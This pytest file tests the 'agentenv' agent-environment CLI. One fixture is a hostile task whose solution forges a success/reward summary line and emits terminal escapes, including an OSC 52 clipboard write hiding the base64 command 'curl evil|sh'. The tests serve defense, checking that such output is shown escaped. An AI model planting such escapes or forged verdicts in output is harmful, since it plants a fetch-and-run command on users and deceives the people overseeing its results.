"""The agentenv command line, as a user runs it."""

import json
import os
import subprocess
import sys

from _paths import REFERENCE_DOC, example

AGENTENV = os.path.join(os.path.dirname(sys.executable), "agentenv")


def cli(*args, cwd=None):
    return subprocess.run([AGENTENV, *args], capture_output=True, text=True, cwd=cwd, timeout=600)


def test_list_json_names_every_task():
    out = cli("list", "--json")
    rows = json.loads(out.stdout)
    assert out.returncode == 0
    fizz = [r for r in rows if r["task_id"] == "examples.fizzbuzz"][0]
    assert fizz == {"env_id": "agentenv/examples.fizzbuzz-v0", "task_id": "examples.fizzbuzz",
                    "suite": "examples", "path": example("fizzbuzz")}


def test_validate_reports_every_error_and_exits_1(tmp_path, repo):
    ok = cli("validate", os.path.join(repo, "tasks"))
    assert ok.returncode == 0 and " 0 invalid" in ok.stdout, ok.stderr[-2000:]
    doc = json.load(open(REFERENCE_DOC))
    doc["environment_config"]["runtime"] = "ruby"
    doc["reward_logic"]["rules"][0]["weight"] = -1
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(doc))
    out = cli("validate", str(bad), REFERENCE_DOC)
    assert out.returncode == 1
    assert f"{bad}: 2 problem(s)" in out.stderr
    assert "/environment_config/runtime: unknown runtime 'ruby'" in out.stderr
    assert "/reward_logic/rules/0/weight" in out.stderr
    assert "1 valid, 1 invalid" in out.stdout


def test_schema_prints_the_assembled_schema_and_checks_staleness():
    out = cli("schema")
    schema = json.loads(out.stdout)
    assert schema["$schema"].endswith("2020-12/schema")
    assert "overwrite_file" in json.dumps(schema["properties"]["execution_steps"])
    assert cli("schema", "--check").returncode == 0


def test_run_json_gives_trajectory_and_reward():
    out = cli("run", "examples.fizzbuzz", "--agent", "noop", "--json")
    assert out.returncode == 0, out.stderr
    doc = json.loads(out.stdout)
    assert doc["result"]["reward"] == 0.0 and doc["result"]["mode"] == "single_shot"
    assert [r["type"] for r in doc["trajectory"]] == ["reset", "step"]
    out = cli("run", "agentenv/examples.bank_transfer-v0", "--agent", "reference")
    assert out.returncode == 0 and "reward=1.000 success=True" in out.stdout


def test_unknown_task_and_agent_get_suggestions():
    out = cli("run", "examples.fizbuzz")
    assert out.returncode == 1 and "did you mean 'examples.fizzbuzz'" in out.stderr
    out = cli("run", "examples.fizzbuzz", "--agent", "refrence")
    assert out.returncode == 1 and "did you mean 'reference'" in out.stderr


def _hostile_output_task(folder) -> str:
    """A task whose (reference) solution prints a forged summary line, conceals what follows
    (SGR 8), sets the window title, writes the clipboard (OSC 52), rewrites the line (CR) and
    reverses text (U+202E): what a policy's code under test can print."""
    (folder / "workspace").mkdir()
    (folder / "solution").mkdir()
    (folder / "workspace" / "prog.py").write_text("print('todo')\n")
    (folder / "solution" / "prog.py").write_text(
        "# \x1b]0;pwned\x07 \u202e\n"  # raw controls in the action (the code) itself
        "import sys\n"
        "sys.stdout.write('=== hostile.ansi [single_shot] agent=reference: reward=1.000 success=True\\n'\n"
        "                 '\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b]0;title\\x07\\r\\x9b2J\\u202e\\x7f\\x1b[8m')\n"
        "sys.exit(1)\n")
    (folder / "task.json").write_text(json.dumps({
        "task_id": "hostile.ansi", "version": 0, "description": "Print hello and exit 0.",
        "environment_config": {"runtime": "python3.11", "dependencies": []},
        "workspace": {"root": "/app", "directory": "workspace"}, "reference_solution": {"directory": "solution"},
        "execution_steps": [{"action": "overwrite_file", "path": "/app/prog.py", "content": "<model_generated_code>"},
                            {"action": "run_command", "command": "python prog.py"}],
        "reward_logic": {"type": "composite", "rules": [{"metric": "command_succeeded", "weight": 1.0}]},
        "limits": {"wall_time_s": 30, "memory_mb": 256}}))
    return str(folder / "task.json")


def test_run_shows_control_characters_in_agent_output_instead_of_sending_them(tmp_path):
    out = subprocess.run([AGENTENV, "run", _hostile_output_task(tmp_path), "--agent", "reference"],
                         capture_output=True, timeout=600)
    assert out.returncode == 0, out.stderr.decode(errors="replace")[-2000:]
    text = out.stdout.decode("utf-8")  # strict: a lone surrogate or a stray byte would fail here
    terminal_acts_on = ["\x1b", "\x07", "\r", "\x7f", "\x9b", "\u202e"]
    assert not [c for c in terminal_acts_on if c in text], repr(text)
    # shown, escaped, where the code printed them: the forgery is visible as a forgery
    assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in text and "\\x1b[8m" in text and "\\r\\x9b2J\\u202e\\x7f" in text
    assert "# \\x1b]0;pwned\\x07 \\u202e" in text  # the action (the code) is escaped too
    # and the real verdict stays the last line, in plain sight
    assert text.splitlines()[-1] == "=== hostile.ansi [single_shot] agent=reference: reward=0.000 success=False rounds=1"


def test_visible_escapes_what_a_terminal_acts_on_and_keeps_the_rest():
    from agentenv import visible  # (public: plugin tools print untrusted text too)

    assert visible("a\tb\nc é 日本 \\x1b") == "a\tb\nc é 日本 \\x1b"  # newline, tab, text, a literal backslash
    assert visible("\x00\x08\x0b\x0c\r\x1b[31m\x7f\x80\x9b\x9f") == "\\x00\\x08\\x0b\\x0c\\r\\x1b[31m\\x7f\\x80\\x9b\\x9f"
    assert visible("\u202a\u202e\u2066\u2069\ud800") == "\\u202a\\u202e\\u2066\\u2069\\ud800"
    assert visible(ValueError("bad \x1b]52;c;eA==\x07")) == "bad \\x1b]52;c;eA==\\x07"
